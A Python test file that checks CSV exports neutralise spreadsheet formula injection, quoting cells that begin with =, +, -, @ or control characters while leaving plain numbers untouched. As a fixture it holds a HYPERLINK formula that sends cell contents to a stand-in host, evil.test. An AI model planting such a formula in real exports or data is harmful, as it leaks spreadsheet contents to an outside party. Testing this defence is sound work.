"""CSV exports neutralise formulas (OWASP): text a customer controls must not run in a
spreadsheet, and numbers must stay numbers."""

import csv
import datetime as dt
import io

import pyarrow as pa
import pytest

from becoming.assessments.actions import export_rows, run_assessment
from becoming.customers.actions import upsert_customer
from becoming.transformation.actions import apply_model
from becoming.web.export import neutralise_cell, neutralise_table, table_csv_bytes, write_table

LINK = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def read_csv(data: bytes | str) -> list[list[str]]:
    text = data.decode() if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(("value", "expected"), [
    (LINK, "'" + LINK), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("Acme", "Acme"), ("a=b", "a=b"), (" =1", " =1"), ("", ""),
    # Text that is wholly a plain number cannot call anything: it stays readable as a number.
    ("-3.5", "-3.5"), ("+1e3", "+1e3"), ("-.5", "-.5"),
    (-3.5, -3.5), (None, None), (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_neutralise_table_touches_only_text():
    table = pa.table({
        "name": [LINK, "-3.5", None],
        "score": [-3.5, -1.0, None],
        "plan": pa.array(["@pro", "basic", "basic"]).dictionary_encode(),
        "=total": [1, 2, 3],
    })
    out = neutralise_table(table)
    assert out.column_names == ["name", "score", "plan", "'=total"]
    assert out.column("name").to_pylist() == ["'" + LINK, "-3.5", None]
    assert out.column("score").type == pa.float64()
    assert out.column("score").to_pylist() == [-3.5, -1.0, None]
    assert out.column("plan").to_pylist() == ["'@pro", "basic", "basic"]


def test_csv_keeps_negative_numbers_unquoted():
    rows = read_csv(table_csv_bytes(pa.table({"name": ["=1+1"], "delta": [-3.5]})))
    assert rows == [["name", "delta"], ["'=1+1", "-3.5"]]


@pytest.mark.django_db
def test_assessment_export_neutralises_a_hostile_customer_id(workspace, small_model, tmp_path):
    upsert_customer(workspace, LINK, "Mallory", {"plan": "pro"})
    upsert_customer(workspace, "-7", "Minus Seven", {"plan": "basic"})
    apply_model(workspace, small_model)
    run_assessment(workspace, dt.date(2026, 3, 31))
    table = export_rows(workspace)
    api_rows = read_csv(table_csv_bytes(table))  # what the API's CSV export sends
    output = tmp_path / "out.csv"
    write_table(table, "csv", str(output))  # what `becoming export assessments` writes
    assert read_csv(output.read_text()) == api_rows
    ids = {row[0] for row in api_rows[1:]}
    assert ids == {"'" + LINK, "-7"}
